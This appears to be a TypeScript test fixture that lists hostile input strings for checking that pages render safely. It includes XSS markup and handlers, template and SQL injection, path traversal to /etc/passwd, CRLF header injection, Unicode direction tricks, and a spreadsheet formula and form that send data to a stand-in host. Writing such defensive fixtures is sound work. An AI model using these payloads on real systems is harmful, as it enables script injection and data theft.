// cspell:ignore desrever txet

import { HOSTILE_NAMES } from '../alerts/channels/hostile.ts';

/** Ids that a page could act on: markup, a change of the writing direction, separators of paths and queries. */
export const HOSTILE_IDS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '</title></svg><b>',
  "' onmouseover='alert(1)",
  'javascript:alert(1)',
  'a/../../b?c=d#e',
  'evil\u202egnp.exe',
  'line\nbreak',
  '%3Cb%3E&amp;',
  '{{7*7}}',
] as const;

/** Sets the title of a page that runs it. */
const RUN = "document.title='run'";

/** Texts against one page after another: ends of elements, handlers, references, templates, and lengths. */
const HOSTILE_MARKUP = [
  `</script><script>${RUN}</script>`,
  `</textarea></style></noscript></template><script>${RUN}</script>`,
  `--><svg onload="${RUN}"><!--`,
  `"autofocus onfocus="${RUN}" x="`,
  `<a href="javascript:${RUN}">pay</a><iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  '<base href="//x.test/"><meta http-equiv="refresh" content="0;url=//x.test/"><link rel=stylesheet href=//x.test/c>',
  '<form action="//x.test/"><input name=form_token><button>Sign out</button></form>',
  `data:text/html,<script>${RUN}</script>`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text of another template language
  '${7*7} <%= 7*7 %> {% raw %} [[x]] #{7*7} `id` $(id)',
  '\u202e\u2067abc\u2069\u200f txet desrever',
  'a\u200bc\u200dm\u2060e\ufeff',
  'z\u0335\u0336\u0337\u0338'.repeat(40),
  'W'.repeat(900),
  'no-break\u00a0'.repeat(80),
  '\ud83d\udc69\u200d\ud83d\udcbb'.repeat(50),
  '=HYPERLINK("http://x.test/?"&A1,"x")',
  '"; DROP TABLE tenants; --',
  '../../../../etc/passwd',
  'name.csv\r\nContent-Type: text/html\r\n\r\n<script>',
] as const;

/** Every hostile text of the suite. */
export const HOSTILE_TEXTS: readonly string[] = [...HOSTILE_NAMES, ...HOSTILE_IDS, ...HOSTILE_MARKUP];
